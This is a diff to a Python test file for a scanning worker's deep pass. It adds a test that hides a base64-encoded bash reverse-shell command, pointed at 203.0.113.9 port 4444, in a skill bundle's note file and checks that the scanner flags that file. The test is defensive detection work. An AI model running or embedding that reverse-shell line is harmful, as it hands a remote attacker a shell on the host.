@@ -1,5 +1,6 @@
 """The deep pass in the worker: leases, retries, old versions, alarms and automatic quarantine."""
 
+import base64
 from collections.abc import Collection
 from datetime import datetime, timedelta
 
@@ -273,3 +274,14 @@ def test_a_crash_after_the_quarantine_leaves_a_scan_that_runs_again(
     run(Finds(BAD))
     assert Event.objects.filter(verb="version.quarantined").count() == 1
     assert Scan.objects.get().errors == 1
+
+
+def test_the_task_finds_what_only_the_deep_pass_decodes(project: Project, author: Actor) -> None:
+    payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n").decode()
+    bundle = skill_bundle(files={"references/note.md": f"Keep this block:\n\n{payload}\n".encode()})
+    skills.create(project, bundle, by=author)
+    assert Scan.objects.get().errors == 0
+    scan_jobs.work.call()
+    scan = Scan.objects.get()
+    assert (scan.errors, scan.deep_scanner) == (1, SCANNER)
+    assert scan.findings[0]["file"] == "references/note.md"
